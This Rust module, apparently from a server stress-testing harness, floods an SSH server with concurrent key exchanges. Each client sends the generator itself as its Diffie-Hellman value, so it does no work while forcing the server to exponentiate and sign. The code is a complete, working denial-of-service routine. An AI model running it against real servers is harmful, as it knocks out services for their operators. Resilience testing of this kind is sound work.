//! A storm of key exchanges: connections that make the server compute and go, at no cost of their own.
//!
//! RFC 4253 section 8: a client sends `g^x`; who takes x = 1 sends the generator itself and computes
//! nothing, while the server raises to two powers and signs.

use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::task::JoinSet;
use tokio::time::{Instant, timeout, timeout_at};

use crate::ssh::{Attacker, Door};
use crate::stats::GIVE_UP;

/// Connections at a time, all from one address.
pub(super) const AT_ONCE: usize = 64;

const SSH_MSG_KEXINIT: u8 = 20;
const SSH_MSG_KEXDH_INIT: u8 = 30;
/// Bytes of a packet without its payload's: length and the length of the padding.
const PACKET_HEAD: usize = 5;
/// The reply to an exchange of 2048 bits is longer than this, what comes before it shorter.
const REPLY_BYTES: usize = 1800;

/// What each wants: the longest exchange that a server offers without being asked for its size, and
/// the slowest signature.
const LISTS: [&str; 10] = [
    "diffie-hellman-group14-sha256",
    "rsa-sha2-512,rsa-sha2-256,ssh-rsa",
    "aes128-ctr",
    "aes128-ctr",
    "hmac-sha2-256,hmac-sha1",
    "hmac-sha2-256,hmac-sha1",
    "none",
    "none",
    "",
    "",
];

/// The storm as it runs.
pub(super) struct Storm(JoinSet<usize>);

/// Lets it begin; it goes on as long as others are measured.
pub(super) fn start(door: &Door, window: Duration) -> Storm {
    let end = Instant::now() + window + super::SETTLE;
    let mut clients = JoinSet::new();
    for _ in 0..AT_ONCE {
        let door = door.clone();
        clients.spawn(async move {
            let mut answered = 0;
            while Instant::now() < end {
                // Who is turned away, or kept waiting, tries again.
                let once = timeout_at(end, exchange(&door)).await;
                answered += usize::from(matches!(once, Ok(Ok(()))));
            }
            answered
        });
    }
    Storm(clients)
}

impl Storm {
    /// Waits for its end and says what it got.
    pub(super) async fn finish(self) -> String {
        let answered: usize = self.0.join_all().await.into_iter().sum();
        format!("{answered} exchanges were answered")
    }
}

async fn exchange(door: &Door) -> anyhow::Result<()> {
    let mut socket = door.connect(Attacker(20)).await?;
    let mut hello = b"SSH-2.0-storm\r\n".to_vec();
    let mut offer = vec![SSH_MSG_KEXINIT];
    offer.extend([7; 16]);
    for list in LISTS {
        offer.extend(u32::try_from(list.len())?.to_be_bytes());
        offer.extend(list.as_bytes());
    }
    offer.extend([0; 5]);
    hello.extend(packet(&offer)?);
    // The generator 2 as an mpint.
    hello.extend(packet(&[SSH_MSG_KEXDH_INIT, 0, 0, 0, 1, 2])?);
    socket.write_all(&hello).await?;
    let (mut room, mut got) = ([0; 4096], 0);
    while got < REPLY_BYTES {
        match timeout(GIVE_UP, socket.read(&mut room)).await?? {
            0 => anyhow::bail!("closed after {got} bytes"),
            count => got += count,
        }
    }
    Ok(())
}

/// RFC 4253 section 6, before keys are exchanged.
fn packet(payload: &[u8]) -> anyhow::Result<Vec<u8>> {
    let bare = PACKET_HEAD + payload.len();
    let mut padding = 8 - bare % 8;
    if padding < 4 {
        padding += 8;
    }
    let mut packet = u32::try_from(1 + payload.len() + padding)?
        .to_be_bytes()
        .to_vec();
    packet.push(u8::try_from(padding)?);
    packet.extend(payload);
    packet.resize(bare + padding, 0);
    Ok(packet)
}
